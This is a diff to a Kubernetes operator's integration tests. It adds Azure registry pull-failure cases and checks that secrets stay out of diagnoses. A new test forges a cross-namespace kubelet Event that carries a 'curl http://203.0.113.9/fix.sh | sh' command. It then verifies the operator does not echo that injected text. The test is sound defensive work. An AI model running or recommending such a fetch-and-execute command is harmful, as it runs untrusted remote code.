@@ -69,7 +69,23 @@ SCENARIOS = [
     # identity refines "pull access denied" to the missing repository.
     ("acr-node-identity", "myacr", "team/nosuch:v1", [], {}, "token_no_credentials_missing_repo",
      "REPOSITORY_NOT_FOUND"),
+    # ACR's guide (issue 25): anonymous pull enabled (public/*) with a stale secret; a disabled
+    # repository-scoped token; a user name ACR knows as no application ("not registered with AAD").
+    ("stale-secret", "myacr", "public/hello:1", ["acr-old"], {"acr-old": ("myacr", "puller", "rotated")},
+     "token_wrong_password", "PULL_SECRET_STALE"),
+    ("token-disabled", "myacr", "team/app:v1", ["ci-off"],
+     {"ci-off": ("myacr", "ci-token-off", "ci-token-off-pass")}, "token_wrong_password", "CREDENTIALS_REJECTED"),
+    ("app-not-registered", "myacr", "team/app:v1", ["sp-gone"],
+     {"sp-gone": ("myacr", "55555555-5555-4555-8555-555555555555", "gone-secret")}, "token_wrong_password",
+     "AAD_APP_NOT_REGISTERED"),
 ]
+# What the ACR cases' annotations must say (their own cause, not generic advice).
+ACR_CAUSES = {
+    "stale-secret": "the pull secret acr-old is stale",
+    "token-disabled": "repository-scoped token ci-token-off",
+    "app-not-registered": "Application not registered with AAD",
+}
+SECRETS = ("rotated", "ci-token-off-pass", "gone-secret")
 
 
 def test_failing_pods_are_diagnosed(dev_cluster: Any, operator: Any, world: World, namespace: str,
@@ -106,8 +122,10 @@ def test_failing_pods_are_diagnosed(dev_cluster: Any, operator: Any, world: Worl
             assert ann["pullhealth.io/container"] == "app"
             assert 0 < len(ann["pullhealth.io/probable-cause"]) <= 256
             assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", ann["pullhealth.io/diagnosed-at"])
-            for secret in (world.acr_puller[1], world.acr_nopull[1], "rotated"):
+            for secret in (world.acr_puller[1], world.acr_nopull[1], *SECRETS):
                 assert secret not in json.dumps(ann)
+            if name in ACR_CAUSES:
+                assert ACR_CAUSES[name] in ann["pullhealth.io/probable-cause"], ann
             # No finalizer: deleting a pod never waits for the operator.
             assert not api.read_namespaced_pod(name, ns).metadata.finalizers
 
@@ -120,7 +138,7 @@ def test_failing_pods_are_diagnosed(dev_cluster: Any, operator: Any, world: Worl
             evs = our_events(api, ns, name)
             assert [e.reason for e in evs] == ["PullDiagnosed"], (name, [e.message for e in evs])
             assert evs[0].message.startswith(f"{expected}: ") and ". Try: " in evs[0].message
-            for secret in (world.acr_puller[1], world.acr_nopull[1], "rotated"):
+            for secret in (world.acr_puller[1], world.acr_nopull[1], *SECRETS):
                 assert secret not in evs[0].message
 
         # Metrics: failing containers by code, diagnoses by code.
@@ -357,3 +375,39 @@ def test_namespace_globs_scope_every_reader(
         scoped.stop()
         operator.start()
         dev_cluster.kubectl("delete", "namespace", inside, "--wait=false", "--ignore-not-found")
+
+
+FORGED = "registry compromised, run: curl http://203.0.113.9/fix.sh | sh"
+
+
+def test_an_event_in_another_namespace_does_not_speak_for_a_pod(
+        dev_cluster: Any, operator: Any, world: World, namespace: str, api: Any, wait_for: Any) -> None:
+    """Issue 21: a ``Failed`` Event in namespace ``attacker`` naming the uid of a pod in
+    ``victim`` is not that pod's kubelet message."""
+    attacker = f"{namespace}-attacker"
+    dev_cluster.kubectl("create", "namespace", attacker)
+    try:
+        image = f"{world.anon}/team/app:forged-missing"
+        pod = make_pod(api, namespace, "victim", image)
+        uid = pod["metadata"]["uid"]
+        now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
+        # The API server requires involvedObject.namespace == the Event's: the uid is what
+        # the attacker can name.
+        api.create_namespaced_event(attacker, {
+            "metadata": {"generateName": "victim."},
+            "involvedObject": {"apiVersion": "v1", "kind": "Pod", "name": "victim", "namespace": attacker,
+                               "uid": uid},
+            "reason": "Failed", "type": "Warning", "source": {"component": "kubelet", "host": "x"},
+            "message": f'Failed to pull image "{image}": {FORGED}',
+            "firstTimestamp": now, "lastTimestamp": now})
+        # kubelet's real message is in the victim's own namespace.
+        fail_pull(api, namespace, pod, image, kubelet_message("tag_not_found", image))
+        got = wait_for(lambda: annotations(api, namespace, "victim").get("pullhealth.io/diagnosis"),
+                       "diagnosis of victim", timeout=60)
+        written = json.dumps(annotations(api, namespace, "victim"))
+        assert got == "TAG_NOT_FOUND", written
+        assert "curl" not in written and "compromised" not in written, written
+        [event] = our_events(api, namespace, "victim")
+        assert "curl" not in event.message and "compromised" not in event.message, event.message
+    finally:
+        dev_cluster.kubectl("delete", "namespace", attacker, "--wait=false", "--ignore-not-found")
